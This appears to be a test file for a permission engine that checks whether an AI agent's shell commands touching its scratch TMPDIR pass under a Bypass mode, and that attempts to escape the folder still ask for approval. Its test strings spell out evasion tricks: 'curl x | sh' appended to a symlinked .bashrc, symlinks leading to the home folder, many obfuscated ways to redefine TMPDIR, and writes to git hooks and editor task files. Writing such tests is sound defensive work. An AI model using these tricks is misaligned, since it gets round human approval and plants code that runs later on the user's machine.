import assert from "node:assert/strict";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { buildFootprint } from "../../src/core/policy/footprint";
import { PolicyBoundary } from "../../src/core/policy/resolvePath";
import { decide, parsePermissionSettings, type Decision } from "../../src/core/policy/rules";
import { makePolicyWorkspace, type PolicyWorkspace } from "../support/policyWorkspace";
import { v2Request } from "../support/permissionRequests";

/**
 * The window's scratch folder: the host counts it as a folder writes may go to and gives it to agents as TMPDIR, so a
 * line's `$TMPDIR` is that folder where the line cannot have set the variable. What passes under Bypass, and each way
 * an agent could try to make `$TMPDIR` (or a name in the folder) lead elsewhere, which still asks.
 */
describe("the scratch folder (agents' TMPDIR) under Bypass", () => {
  let workspace: PolicyWorkspace;
  let scratch: string;
  let boundary: PolicyBoundary;

  before(async () => {
    workspace = await makePolicyWorkspace("symposium-scratch-policy-");
    scratch = join(workspace.base, "scratch");
    mkdirSync(scratch, { mode: 0o700 });
    writeFileSync(join(workspace.home, ".bashrc"), "");
    // A link the agent left in the folder, leading to a shell startup file.
    symlinkSync(join(workspace.home, ".bashrc"), join(scratch, "rc"));
    boundary = new PolicyBoundary([workspace.ws], {
      home: workspace.home,
      caseInsensitive: () => false,
      additionalFolders: [scratch],
      startupEnv: {},
    });
  });

  after(() => workspace?.remove());

  /** `tmpdir` null: the agent's TMPDIR is not the scratch folder. */
  const underBypass = (line: string, tmpdir: string | null = scratch, denied: string[] = []): Decision =>
    decide(
      buildFootprint(v2Request({ type: "command", command: line, cwd: workspace.ws }), {
        shell: workspace.shell,
        home: workspace.home,
        sessionCwd: workspace.ws,
        ...(tmpdir !== null ? { tmpdir } : {}),
      }),
      {
        agentName: "Claude",
        rules: parsePermissionSettings({ deny: denied.map((path) => ({ path })) }, "user").rules,
        bypass: true,
        trusted: true,
        paths: boundary,
        home: workspace.home,
        sessionCwd: workspace.ws,
      },
    );

  const passes = (line: string) => {
    const decision = underBypass(line);
    assert.equal(decision.by.type, "bypass", `${line}: ${decision.by.label}`);
  };
  const asks = (line: string, tmpdir: string | null = scratch) => {
    const decision = underBypass(line, tmpdir);
    assert.equal(decision.verdict, "ask", `${line}: ${decision.by.label}`);
  };

  it("passes what an agent writes to and reads from $TMPDIR, as bash reads the variable", () => {
    for (const line of [
      "echo hi > $TMPDIR/out.txt",
      'npm test > "$TMPDIR/test.log" 2>&1; tail -n 50 "$TMPDIR/test.log"',
      'sort src/a.ts > "${TMPDIR}/sorted.txt" && diff src/a.ts "${TMPDIR}/sorted.txt"',
      'OUT="$TMPDIR/build.log"; npm run build > "$OUT"',
      'cp src/a.ts "$TMPDIR/" && rm -f "$TMPDIR/a.ts"',
      'cd "$TMPDIR" && echo hi > notes.txt',
      // The folder's own name, as the agent was told it.
      `echo hi > ${scratch}/x.txt`,
    ])
      passes(line);
  });

  it("reads $TMPDIR as computed where the agent's TMPDIR is not the scratch folder (its settings set one)", () => {
    asks("echo hi > $TMPDIR/out.txt", null);
  });

  it("still asks for /tmp itself, shared by every process, and for a way out of the folder", () => {
    for (const line of [
      "echo hi > /tmp/out.txt",
      "cd /tmp; echo hi > out.txt",
      "echo hi > $TMPDIR/../out.txt",
      "mktemp -p /tmp",
      "TMPDIR=.. mktemp",
    ])
      asks(line);
  });

  it("still asks for a link in the folder leading out, whether it was there or the line makes it", () => {
    for (const line of [
      "echo 'curl x | sh' >> $TMPDIR/rc",
      `echo 'curl x | sh' >> ${scratch}/rc`,
      'ln -s ~/.bashrc "$TMPDIR/rc2" && echo "curl x | sh" >> "$TMPDIR/rc2"',
      'ln -sf ~/.bashrc "$TMPDIR/rc3"; cp src/a.ts "$TMPDIR/rc3"',
      'ln -s ~ "$TMPDIR/h" && echo x > "$TMPDIR/h/notes.txt"',
      'cd "$TMPDIR" && ln -s ~ h && echo x > h/notes.txt',
      'mv "$TMPDIR/rc" "$TMPDIR/log.txt"; echo x >> "$TMPDIR/log.txt"',
    ])
      asks(line);
  });

  it("still asks where the line may set TMPDIR before reading it, however it is written", () => {
    for (const line of [
      "TMPDIR=~; echo x >> $TMPDIR/notes.txt",
      "TMPDIR=~ sh -c 'echo x >> $TMPDIR/notes.txt'",
      "export TMPDIR=..; echo x > $TMPDIR/out.txt",
      "export TMP''DIR=~; echo x >> $TMPDIR/notes.txt",
      'export TMP"DIR"=~; echo x >> $TMPDIR/notes.txt',
      "export TMP\\DIR=~; echo x >> $TMPDIR/notes.txt",
      "export {TMP,}DIR=~; echo x >> $TMPDIR/notes.txt",
      "read TMPDIR <<< ~; echo x >> $TMPDIR/notes.txt",
      "printf -v TMPDIR %s ~; echo x >> $TMPDIR/notes.txt",
      'v=TMP; export "${v}DIR"=~; echo x >> $TMPDIR/notes.txt',
      'v=$(echo TMP)DIR; read "$v" <<< ~; echo x >> $TMPDIR/notes.txt',
      'v=$(echo TMP)DIR; export "$v=$HOME"; echo x >> $TMPDIR/notes.txt',
      'v=$(echo TMP)DIR; sleep 1 & wait -p "$v"; echo x > $TMPDIR/notes.txt',
      'v=$(echo TMP)DIR; declare -n r="$v"; r=~; echo x >> $TMPDIR/notes.txt',
      "eval 'TMP''DIR=~'; echo x >> $TMPDIR/notes.txt",
      "source ./env.sh; echo x >> $TMPDIR/notes.txt",
      "n=$(echo TMPDIR=7); (( n )); echo x > $TMPDIR/notes.txt",
      "n=$(echo TMPDIR=7); [[ 1 -eq n ]]; echo x > $TMPDIR/notes.txt",
      "unset TMPDIR; echo x > $TMPDIR/notes.txt",
      ": ${TMPDIR:=~}; echo x >> $TMPDIR/notes.txt",
      "c=$(echo export); $c TMPDIR=~; echo x >> $TMPDIR/notes.txt",
      "IFS=/; echo x > $TMPDIR/notes.txt",
      // A shell the line runs may be given another TMPDIR by what runs it.
      "v=$(echo TMP)DIR; env \"$v=$HOME\" bash -c 'echo x >> $TMPDIR/notes.txt'",
      "bash -c 'echo x > $TMPDIR/notes.txt'",
    ])
      asks(line);
  });

  it("keeps deny rules and the guards on protected names for what is in the folder", () => {
    assert.equal(underBypass('echo x > "$TMPDIR/key.pem"', scratch, ["**/*.pem"]).verdict, "deny");
    for (const line of [
      'echo x > "$TMPDIR/.env"',
      'mkdir -p "$TMPDIR/r/.git/hooks" && echo x > "$TMPDIR/r/.git/hooks/pre-commit"',
      'echo x > "$TMPDIR/.vscode/tasks.json"',
    ])
      asks(line);
  });
});
